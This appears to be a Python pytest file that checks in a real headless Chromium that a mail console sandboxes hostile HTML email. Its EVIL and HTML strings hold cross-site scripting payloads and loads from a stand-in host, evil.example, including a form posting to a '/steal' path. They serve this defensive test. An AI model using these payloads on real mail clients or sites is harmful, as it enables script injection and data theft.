"""Hostile mail in a real Chromium: nothing runs, nothing is fetched from elsewhere, nothing leaves the sandbox (attack 13)."""

import base64
import http.server
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from email.message import EmailMessage

import pytest
import uvicorn
from playwright.sync_api import Playwright, sync_playwright

from contracts.statuses import Status
from tests.integration.console_log import Log

CHROMIUM = shutil.which("chromium")
ARGS = ["--no-sandbox", "--headless=new", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]  # fmt: skip
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium (apt-get install chromium)")
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
EVIL = "<script>document.title='owned'</script><img src=http://evil.example/a.gif onerror=\"document.title='owned'\">"
HTML = f"""<html><head><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">
<link rel=stylesheet href="http://evil.example/x.css"><style>@import url(http://evil.example/y.css); p {{ color: rgb(1, 2, 3);
background: url(http://evil.example/bg.gif) }}</style></head><body onload="parent.document.title='owned'">{EVIL}
<p id=said>text</p><iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<form id=f action="http://evil.example/steal" method=post><input name=a></form><svg onload="top.document.title='owned'"/>
<a id=js href="javascript:top.document.title='owned'" target=_top>js</a><a id=out href="http://evil.example/" target=_top>out</a>
<video src="http://evil.example/v"></video><object data="http://evil.example/o"></object></body></html>"""


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Log]:
    log = Log(tmp_path_factory.mktemp("browser"))
    yield log
    log.close()


@pytest.fixture(scope="module")
def address(log: Log, free_port: Callable[[], int]) -> Iterator[str]:
    """Where the console listens."""
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(log.app, "127.0.0.1", port, log_level="error", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join()


@pytest.fixture
def evil() -> Iterator[http.server.HTTPServer]:
    """Whatever a browser asks of evil.example ends up here, in `asked`."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            server.asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@contextmanager
def chromium() -> Iterator[Playwright]:
    """Its profile has a socket, whose path may have 107 octets: the store of this process has moved TMPDIR deep down."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TMPDIR", "/tmp")
        with sync_playwright() as play:
            yield play


def test_hostile_mail_neither_runs_nor_phones_home(log: Log, address: str, evil: http.server.HTTPServer) -> None:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@b.example", EVIL
    mail.set_content(HTML, subtype="html")
    mail_id = log.add(
        raw=mail.as_bytes(), subject=EVIL, from_name=EVIL, detail=EVIL, status=Status.SKIPPED, headers=[("X", EVIL)]
    )
    rule = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil.server_port}"
    with chromium() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=[*ARGS, "--no-proxy-server", rule])
        page = browser.new_page()
        page.goto(f"{address}/mails/{mail_id}")
        page.fill("#token", log.token)
        page.click("button.primary")
        page.wait_for_url(f"{address}/mails/{mail_id}")
        frame = page.frame_locator("iframe")
        frame.locator("#said").wait_for()
        assert frame.locator("#said").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"  # its style is kept
        for link in ("#js", "#out"):
            frame.locator(link).click()
        page.wait_for_timeout(700)
        assert page.url == f"{address}/mails/{mail_id}"
        assert "owned" not in page.title().replace(EVIL[:60], "")
        page.goto(f"{address}/mails/{mail_id}/html")  # opened by itself it is caged as well
        page.wait_for_timeout(500)
        assert page.title() != "owned" and page.url.startswith(address)
        page.goto(f"{address}/")
        assert page.locator("tr.mail").count() == 1
        assert evil.asked == []
        page.evaluate(
            "fetch('http://evil.example/control', {mode: 'no-cors'}).catch(() => 0)"
        )  # our policy stops that too
        assert evil.asked == []
        page.goto("http://evil.example/control")
        assert evil.asked[:1] == ["/control"]  # so this test would have seen it
        browser.close()


def test_the_pictures_of_a_mail_are_seen_in_its_sandbox(log: Log, address: str) -> None:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@b.example", "x"
    mail.set_content("<img id=own src='cid:dot@x'><img id=other src='/static/logo.svg'>", subtype="html")
    mail.add_related(PNG, "image", "png", cid="<dot@x>")
    mail_id = log.add(raw=mail.as_bytes())
    with chromium() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        page.goto(f"{address}/mails/{mail_id}")
        page.fill("#token", log.token)
        page.click("button.primary")
        frame = page.frame_locator("iframe")
        frame.locator("#own").wait_for()
        page.wait_for_load_state("networkidle")
        assert frame.locator("#own").evaluate("e => e.naturalWidth") == 1
        assert frame.locator("#other").evaluate("e => e.naturalWidth") == 0  # nothing else of the console
        browser.close()


def test_pages_obey_their_own_policy_and_fit_a_phone(log: Log, address: str) -> None:
    complaints: list[str] = []
    mail_id = log.add(
        raw=b"Subject: x\r\n\r\nhi\r\n", subject="w" * 300, from_name="n" * 200, detail="d" * 900, message_id="m" * 300
    )
    with chromium() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page(viewport={"width": 400, "height": 800})
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(f"{address}/")
        page.fill("#token", log.token)
        page.click("button.primary")
        page.wait_for_url(f"{address}/")
        for path in ("/", "/?live=1", "/?q=nothing-like-this", f"/mails/{mail_id}"):
            page.goto(address + path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("document.documentElement.scrollWidth") <= 400, path
        browser.close()
    assert complaints == []
